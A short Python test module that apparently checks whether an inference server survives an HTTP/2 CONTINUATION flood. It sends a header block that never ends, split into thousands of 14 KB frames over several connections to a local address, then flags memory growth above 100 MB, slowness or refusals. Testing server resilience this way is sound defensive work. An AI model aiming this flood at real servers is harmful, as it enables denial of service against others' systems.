"""A header block that does not end, in frames of 14 KB."""

import http2

FLAGS = []
SHORT = {"frames": 2000}
FULL = {"frames": 10_000}
AT_ONCE = 10
PIECE = http2.literal("x", "y" * 100) * 134


def attack(address, frames):
    def part(stream):
        first = b""
        if stream == 1:
            first = http2.frame(http2.HEADERS, 0, 1, http2.header_block("/recurve.v1.Inference/Generate"))
        return first + http2.frame(http2.CONTINUATION, 0, 1, PIECE) * AT_ONCE, 2

    connections = http2.flood(address, "127.0.0.2", [part] * (frames // AT_ONCE))
    return f"{frames} frames of {len(PIECE)} bytes on {connections} connections"


def check(result, size):
    if result.grown() > 100e6:
        yield f"resident memory grew by {result.grown() / 1e6:.0f} MB, wanted under 100"
    yield from result.too_slow()
    yield from result.refusals()
